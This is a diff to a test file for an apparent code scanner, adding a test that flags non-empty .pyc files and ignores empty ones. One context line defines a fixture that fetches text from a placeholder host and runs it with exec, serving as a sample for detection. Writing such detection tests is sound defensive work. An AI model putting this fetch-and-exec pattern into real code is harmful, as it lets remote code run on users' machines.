@@ -65,6 +65,11 @@ test('a compiled module is set against its source', async () => {
   expect(await told(files, { compiledCode })).toEqual(['critical garden/a.pyc', 'medium garden/__pycache__/c.cpython-312.pyc', 'medium garden/__pycache__/d.cpython-312.pyc']);
 });
 
+test('a file that only the name makes byte code is told, an empty one is not', async () => {
+  const files = { 'garden/__init__.py': large, 'garden/__pycache__/a.pyc': 'no byte code, though long enough', 'garden/__pycache__/b.pyc': '' };
+  expect(await told(files, { compiledCode })).toEqual(['medium garden/__pycache__/a.pyc']);
+});
+
 const FETCHES = 'import requests\nexec(requests.get("https://garden.invalid").text)\n';
 
 test('a data file that a module runs on import is judged as code that runs on import', async () => {
